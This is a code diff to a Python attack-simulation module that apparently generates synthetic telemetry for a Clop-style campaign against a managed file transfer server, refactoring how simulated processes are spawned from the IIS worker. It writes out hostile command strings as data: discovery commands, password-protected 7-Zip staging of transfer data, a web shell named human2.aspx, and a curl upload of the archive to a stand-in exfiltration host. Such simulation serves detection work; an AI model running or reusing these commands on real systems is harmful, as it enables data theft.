@@ -16,7 +16,7 @@ from chainbreaker.simulate.intel import CampaignIntel, FeedIndicator
 from chainbreaker.simulate.model import Environment, Label
 from chainbreaker.simulate.scenarios import steps
 from chainbreaker.simulate.scenarios.base import Plan, Scenario, register
-from chainbreaker.simulate.telemetry import Telemetry
+from chainbreaker.simulate.telemetry import Process, Telemetry
 
 ATTACKER = "203.0.113.88"
 #: The operators drive the web shell from another rented address than the exploitation tooling.
@@ -24,6 +24,7 @@ SHELL_OPERATOR = "203.0.113.91"
 WEBSHELL = "human2.aspx"
 EXFIL_IP, EXFIL = "203.0.113.120", "sync-storage.example.net"
 WEBROOT = "C:\\MFTTransfer\\wwwroot"
+INETSRV = "c:\\windows\\system32\\inetsrv\\"
 UA_TOOL = "python-requests/2.31.0"
 
 L_RECON = Label("MFT application probing", "reconnaissance", "T1595.002", "reconnaissance")
@@ -108,6 +109,12 @@ class Clop(Scenario):
         plan = Plan(start)
         mft = env.first("mft")
         s = plan.state
+
+        def from_w3wp(tel: Telemetry, t: float, image: str, command_line: str, label: Label) -> Process:
+            """A process the IIS worker starts: the exploited application, later the web shell, runs
+            everything through w3wp.exe, in its working folder."""
+            w3wp = tel.state(mft).base["w3wp"]
+            return act.spawn(tel, mft, t, w3wp, image, command_line, label=label, cwd=INETSRV)
 
         def web(
             tel: Telemetry,
@@ -217,17 +224,7 @@ class Clop(Scenario):
             )
 
         def exploit(tel: Telemetry, t: float) -> None:
-            w3wp = tel.state(mft).base["w3wp"]
-            s["cmd"] = act.spawn(
-                tel,
-                mft,
-                t,
-                w3wp,
-                steps.CMD,
-                "cmd.exe /c whoami",
-                label=L_EXPLOIT,
-                cwd="c:\\windows\\system32\\inetsrv\\",
-            )
+            s["cmd"] = from_w3wp(tel, t, steps.CMD, "cmd.exe /c whoami", L_EXPLOIT)
             act.spawn(
                 tel, mft, t + 0.05, s["cmd"], "C:\\Windows\\System32\\whoami.exe", "whoami", label=L_EXPLOIT
             )
@@ -235,18 +232,15 @@ class Clop(Scenario):
         def install(tel: Telemetry, t: float) -> None:
             w3wp = tel.state(mft).base["w3wp"]
             act.file_create(tel, mft, t, w3wp, f"{WEBROOT}\\{WEBSHELL}", L_WEBSHELL)
-            act.spawn(
+            from_w3wp(
                 tel,
-                mft,
                 t + 4,
-                w3wp,
                 "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                 '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" '
                 "/t:library /utf8output /nostdlib+ "
                 '/out:"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary '
                 'ASP.NET Files\\root\\9a1c\\b2e7\\App_Web_human2.aspx.cdcab7d2.dll"',
-                label=L_WEBSHELL,
-                cwd="c:\\windows\\system32\\inetsrv\\",
+                L_WEBSHELL,
             )
 
         def shell(tel: Telemetry, t: float) -> None:
@@ -264,16 +258,8 @@ class Clop(Scenario):
             )
 
         def discover(tel: Telemetry, t: float) -> None:
-            w3wp = tel.state(mft).base["w3wp"]
-            cmd = act.spawn(
-                tel,
-                mft,
-                t,
-                w3wp,
-                steps.CMD,
-                'cmd.exe /c "whoami /all & hostname & ipconfig /all"',
-                label=L_DISCOVERY,
-                cwd="c:\\windows\\system32\\inetsrv\\",
+            cmd = from_w3wp(
+                tel, t, steps.CMD, 'cmd.exe /c "whoami /all & hostname & ipconfig /all"', L_DISCOVERY
             )
             for i, (img, args) in enumerate(
                 (
@@ -287,17 +273,13 @@ class Clop(Scenario):
                 )
 
         def stage(tel: Telemetry, t: float) -> None:
-            w3wp = tel.state(mft).base["w3wp"]
-            cmd = act.spawn(
+            cmd = from_w3wp(
                 tel,
-                mft,
                 t,
-                w3wp,
                 steps.CMD,
                 'cmd.exe /c "C:\\Program Files\\7-Zip\\7z.exe" a -t7z -mx1 '
                 "-pDd81k2 C:\\ProgramData\\mft_export.7z D:\\MFTData\\*",
-                label=L_STAGE,
-                cwd="c:\\windows\\system32\\inetsrv\\",
+                L_STAGE,
             )
             zipper = act.spawn(
                 tel,
@@ -312,16 +294,12 @@ class Clop(Scenario):
             act.file_create(tel, mft, t + 0.5, zipper, "C:\\ProgramData\\mft_export.7z", L_STAGE)
 
         def exfil(tel: Telemetry, t: float) -> None:
-            w3wp = tel.state(mft).base["w3wp"]
-            cmd = act.spawn(
+            cmd = from_w3wp(
                 tel,
-                mft,
                 t,
-                w3wp,
                 steps.CMD,
                 f"cmd.exe /c curl.exe -k -s -T C:\\ProgramData\\mft_export.7z https://{EXFIL}/u/",
-                label=L_EXFIL,
-                cwd="c:\\windows\\system32\\inetsrv\\",
+                L_EXFIL,
             )
             curl = act.spawn(
                 tel,
@@ -336,16 +314,13 @@ class Clop(Scenario):
             at = t + 0.3
             for size in (268_435_456, 251_658_240, 196_083_712):
                 duration = size / rng.uniform(1.6e6, 2.4e6)
-                net.connect(
+                net.https(
                     tel,
                     at,
                     mft,
                     EXFIL_IP,
-                    443,
-                    proc=curl,
-                    service="ssl",
-                    dst_name=EXFIL,
-                    sni=EXFIL,
+                    EXFIL,
+                    curl,
                     duration=duration,
                     orig_bytes=size,
                     resp_bytes=rng.randrange(9000, 40000),
